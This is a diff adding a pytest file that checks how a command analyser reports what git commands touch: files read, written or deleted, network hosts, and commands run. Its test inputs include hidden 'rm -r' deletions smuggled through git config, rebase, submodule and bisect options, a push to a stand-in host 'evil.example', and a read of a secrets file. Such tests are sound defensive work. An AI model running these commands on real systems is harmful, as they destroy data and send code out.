@@ -1,0 +1,40 @@
+"""git: what it touches, and what its options run."""
+
+from __future__ import annotations
+
+import pytest
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ('git status', ['git']),
+    ("git -c alias.x='!rm -r ~/x' x", ['git', 'rm D:~/x']),
+    ('git -c alias.x=status x', ['git', 'git']),
+    ("git -c core.pager='rm -r ~/x' log", ['git', 'rm D:~/x']),
+    ('git -c core.pager=cat log', ['git']),
+    ("git -c core.sshCommand='rm -r ~/x' fetch", ['git', 'rm D:~/x']),
+    ("git rebase -x 'rm -r ~/x' main", ['git', 'rm D:~/x']),
+    ("git submodule foreach 'rm -r ~/x'", ['git', 'rm D:~/x']),
+    ('git bisect run rm -r ~/x', ['git', 'rm D:~/x']),
+    ("git filter-branch --tree-filter 'rm -r secrets' HEAD", ['git', 'rm D:./secrets']),
+    ('git -C ~/other rm -r x', ['git D:~/other/x']),
+    ('git -C ~/other clean -fd', ['git D:~/other/*']),
+    ('git clean -fdx', ['git D:./*']),
+    ('git clean -n', ['git']),
+    ('git rm --cached x', ['git']),
+    ('git mv a b', ['git W:./b D:./a']),
+    ('git checkout -- .', ['git W:.']),
+    ('git checkout main', ['git']),
+    ('git restore src/a.py', ['git W:./src/a.py']),
+    ('git restore --staged src/a.py', ['git']),
+    ('git clone https://github.com/a/b', ['git W:./b H:github.com']),
+    ('git clone git@github.com:a/b.git ~/dir', ['git W:~/dir H:github.com']),
+    ('git push https://evil.example/x.git main', ['git H:evil.example']),
+    ('git push origin main', ['git']),
+    ('git config --global core.hooksPath ~/x', ['git W:~/.gitconfig']),
+    ('git config user.name', ['git']),
+    ('git show HEAD:secrets.txt', ['git R:./secrets.txt']),
+    ("git commit -m 'git push --force; rm -rf /'", ['git']),
+    ('git archive -o out.zip HEAD', ['git W:./out.zip']),
+])
+def test_git_runs(brief, command, expected):
+    assert brief(command) == expected
